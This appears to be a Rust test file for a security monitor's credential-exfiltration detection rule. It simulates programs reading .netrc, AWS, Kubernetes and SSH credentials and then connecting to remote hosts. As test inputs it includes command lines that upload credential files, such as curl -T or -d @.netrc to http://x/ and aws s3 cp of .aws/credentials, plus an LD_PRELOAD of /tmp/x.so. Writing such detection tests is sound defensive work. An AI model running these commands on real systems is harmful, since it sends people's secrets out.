//! What is a program's own, and when it counts as read after all.

use sentinel_ipc::file_class::class;

use crate::{
    alert::Severity,
    analysis::Analysis,
    event::{DescriptorCall, TrafficReport},
    patterns::story::{Started, Story, connection},
    rules::RuleSet,
};

const RULE: &str = "credential_exfil";
const AWAY: &str = "203.0.113.5:4444";
const HTTPS: &str = "203.0.113.5:443";
const SIZE: u64 = 411;
const CRITICAL: [(u32, Severity); 1] = [(10, Severity::Critical)];

impl Story {
    /// With these clients and those of the binary.
    fn with_clients(clients: &str) -> Self {
        let mut set = RuleSet::embedded().unwrap();
        set.add_text("own.toml", clients).unwrap();
        Self { analysis: Analysis::with_rules(set.activate(), false), ..Self::default() }
    }

    fn runs(mut self, program: Started) -> Self {
        self.exec(10, program);
        self
    }

    fn has_read(mut self, path: &str, class: u32) -> Self {
        self.opens(10, path, class, SIZE).close(10, 9);
        self
    }

    /// What is said when the secret, or as much, is sent there.
    fn sent_to(mut self, remote: &str) -> Vec<(u32, Severity)> {
        self.goes_to(10, remote);
        self.found(RULE)
    }

    fn goes_to(&mut self, pid: u32, remote: &str) -> &mut Self {
        let there = connection(77, remote);
        self.call(pid, DescriptorCall::Connect, 3, there);
        let report = TrafficReport::Sent { bytes: SIZE, calls: 1 };
        self.traffic(pid, (3, there), report, (SIZE, 0))
    }
}

fn line(path: &'static str, line: &'static str) -> Started {
    Started { line, ..Started::at(path) }
}

fn script(path: &'static str, line: &'static str) -> Story {
    let python = Started { script: Some(path), line, ..Started::at("/usr/bin/python3") };
    let mut story = Story::default().runs(python);
    story.opens_script(10, path);
    story
}

#[test]
fn what_is_anothers_is_no_ones_own() {
    let told = |program: &'static str, path: &str, class: u32| {
        Story::default().runs(Started::at(program)).has_read(path, class).sent_to(HTTPS).len()
    };
    let client = class::CLIENT_CREDENTIALS;
    for (program, path, found) in [
        ("/usr/bin/curl", "/home/u/.netrc", 0),
        ("/usr/bin/curl", "/home/u/.git-credentials", 1),
        ("/usr/bin/curl", "/home/u/.npmrc", 1),
        ("/usr/bin/curl", "/home/u/x.netrc", 1),
        ("/usr/bin/git", "/home/u/.git-credentials", 0),
        ("/usr/bin/git", "/home/u/.npmrc", 1),
        ("/usr/bin/cargo", "/home/u/.cargo/credentials.toml", 0),
        ("/usr/bin/cargo", "/home/u/credentials.toml", 1),
        ("/usr/lib/postgresql/16/bin/psql", "/home/u/.pgpass", 0),
        ("/usr/lib/postgresql/x/16/bin/psql", "/home/u/.pgpass", 1),
    ] {
        assert_eq!(told(program, path, client), found, "{program} {path}");
    }
    let cloud = class::CLOUD_CREDENTIALS;
    for (program, path, found) in [
        ("/usr/bin/kubectl", "/home/u/.kube/config", 0),
        ("/usr/bin/kubectl", "/run/secrets/kubernetes.io/serviceaccount/token", 0),
        ("/usr/bin/kubectl", "/home/u/.aws/credentials", 1),
        ("/usr/bin/docker", "/home/u/.docker/config.json", 0),
        ("/usr/bin/docker", "/home/u/.kube/config", 1),
        ("/usr/bin/restic", "/home/u/.kube/config", 0),
    ] {
        assert_eq!(told(program, path, cloud), found, "{program} {path}");
    }
}

#[test]
fn it_is_read_by_who_goes_elsewhere_with_it() {
    let aws = || {
        script("/usr/bin/aws", "python3 /usr/bin/aws s3 ls")
            .has_read("/home/u/.aws/credentials", class::CLOUD_CREDENTIALS)
    };
    assert_eq!(aws().sent_to(HTTPS), []);
    assert_eq!(aws().sent_to("10.0.0.7:4444"), [], "within one's own networks");
    assert_eq!(aws().sent_to(AWAY), CRITICAL);
    // From its children as well, after what was right, and with the time of the reading.
    let mut story = aws();
    story.goes_to(10, HTTPS).fork(10, 11).goes_to(11, AWAY);
    assert_eq!(story.found(RULE), [(11, Severity::Critical)]);
    let alert = &story.alerts[0];
    assert!(alert.steps[0].detail.contains(".aws/credentials to read"), "{:?}", alert.steps);
    // Not another program's, and not long after.
    let mut story = aws();
    story.exec(10, Started::at("/usr/bin/curl")).goes_to(10, AWAY);
    assert_eq!(story.found(RULE), []);
    let mut story = aws();
    story.passes(61_000).goes_to(10, AWAY);
    assert_eq!(story.found(RULE), []);
}

#[test]
fn what_leaves_elsewhere_by_an_older_connection_is_found() {
    let mut story = script("/usr/bin/aws", "python3 /usr/bin/aws s3 ls");
    let there = connection(77, AWAY);
    story.call(10, DescriptorCall::Connect, 3, there);
    let mut story = story.has_read("/home/u/.aws/credentials", class::CLOUD_CREDENTIALS);
    let report = TrafficReport::Sent { bytes: SIZE, calls: 1 };
    story.traffic(10, (3, there), report, (SIZE, 0));
    assert_eq!(story.found(RULE), CRITICAL);
}

#[test]
fn asking_for_names_is_going_nowhere() {
    let mut story = script("/usr/bin/aws", "python3 /usr/bin/aws s3 ls")
        .has_read("/home/u/.aws/credentials", class::CLOUD_CREDENTIALS);
    story.goes_to(10, "203.0.113.53:53").goes_to(10, HTTPS);
    assert_eq!(story.found(RULE), []);
}

#[test]
fn who_is_told_to_send_it_has_read_it() {
    let netrc = |line_: &'static str| {
        let curl = Story::default().runs(line("/usr/bin/curl", line_));
        curl.has_read("/home/u/.netrc", class::CLIENT_CREDENTIALS).sent_to(AWAY)
    };
    assert_eq!(netrc("curl -sn http://x/"), []);
    assert_eq!(netrc("curl -s --netrc-file /home/u/.netrc http://x/"), []);
    assert_eq!(netrc("curl -T /home/u/.netrc http://x/"), CRITICAL);
    assert_eq!(netrc("curl -d @.netrc http://x/"), CRITICAL);
    let aws = |line: &'static str| {
        script("/usr/bin/aws", line)
            .has_read("/home/u/.aws/credentials", class::CLOUD_CREDENTIALS)
            .sent_to(HTTPS)
    };
    assert_eq!(aws("python3 /usr/bin/aws s3 cp report.csv s3://b/"), []);
    assert_eq!(aws("python3 /usr/bin/aws s3 cp /home/u/.aws/credentials s3://b/"), CRITICAL);
    assert_eq!(aws("python3 /usr/bin/aws s3 cp --recursive /home/u s3://b/"), CRITICAL);
}

#[test]
fn arguments_that_are_not_known_whole_may_name_it() {
    use crate::event::{Action, Exec, Origin, Path, Trust};
    let told = |argument_count: u32| {
        let bytes = b"/usr/bin/curl".to_vec();
        let exec = Exec {
            path: Some(Path { bytes, origin: Origin::Kernel, truncated: false }),
            arguments: ["curl", "-n"].iter().collect(),
            argument_count,
            trust: Trust::of(u16::MAX),
            ..Exec::default()
        };
        let mut story = Story::default();
        story.happens(10, Action::Exec(Box::new(exec)));
        story.has_read("/home/u/.netrc", class::CLIENT_CREDENTIALS).sent_to(AWAY).len()
    };
    assert_eq!((told(2), told(3)), (0, 1));
}

#[test]
fn operators_add_clients_of_theirs() {
    let client = "[[client]]\nwhy = \"deploys\"\nexe = \"/opt/deploy/bin/deploy\"\nclass = \"ssh_key\"\n\
                  file = \"/srv/deploy/.ssh/\"\nport = [22, 2222]\n";
    let told = |program: Started, path: &str, remote: &str| {
        let story = Story::with_clients(client).runs(program);
        story.has_read(path, class::SSH_KEY).sent_to(remote)
    };
    let (key, ssh) = ("/srv/deploy/.ssh/id", "203.0.113.5:22");
    let deploy = || Started::at("/opt/deploy/bin/deploy");
    assert_eq!(told(deploy(), key, ssh), []);
    assert_eq!(told(deploy(), key, HTTPS), CRITICAL);
    assert_eq!(told(deploy(), "/root/.ssh/id", ssh), CRITICAL);
    let preloaded = Started { environment: "LD_PRELOAD=/tmp/x.so", ..deploy() };
    assert_eq!(told(preloaded, key, ssh), CRITICAL);
    assert_eq!(told(Started { trust: 0, ..deploy() }, key, ssh), CRITICAL);
    // Of the binary's and the operator's entries the more generous one holds.
    let more = "[[client]]\nwhy = \"w\"\nscript = \"aws\"\nclass = \"secret\"\nport = 8443\n";
    let mut story = Story::with_clients(more);
    let python = Started { script: Some("/usr/bin/aws"), ..Started::at("/usr/bin/python3") };
    story.exec(10, python).opens_script(10, "/usr/bin/aws");
    let mut story = story.has_read("/home/u/.aws/credentials", class::CLOUD_CREDENTIALS);
    story.goes_to(10, HTTPS).goes_to(10, "203.0.113.5:8443");
    assert_eq!(story.found(RULE), []);
}

#[test]
fn clients_change_while_it_runs() {
    let mut story = Story::with_clients(
        "[[client]]\nwhy = \"w\"\nexe = \"/opt/x\"\nclass = \"client_credentials\"\n",
    );
    let swap = story.analysis.swap_rules(RuleSet::embedded().unwrap().activate());
    assert!(swap.to_string().ends_with("the same as before; other clients than before"), "{swap}");
    let swap = story.analysis.swap_rules(RuleSet::embedded().unwrap().activate());
    assert!(swap.to_string().ends_with("the same as before"), "{swap}");
    let story = story.runs(Started::at("/opt/x"));
    let told = story.has_read("/home/u/.netrc", class::CLIENT_CREDENTIALS).sent_to(AWAY);
    assert_eq!(told, CRITICAL);
}
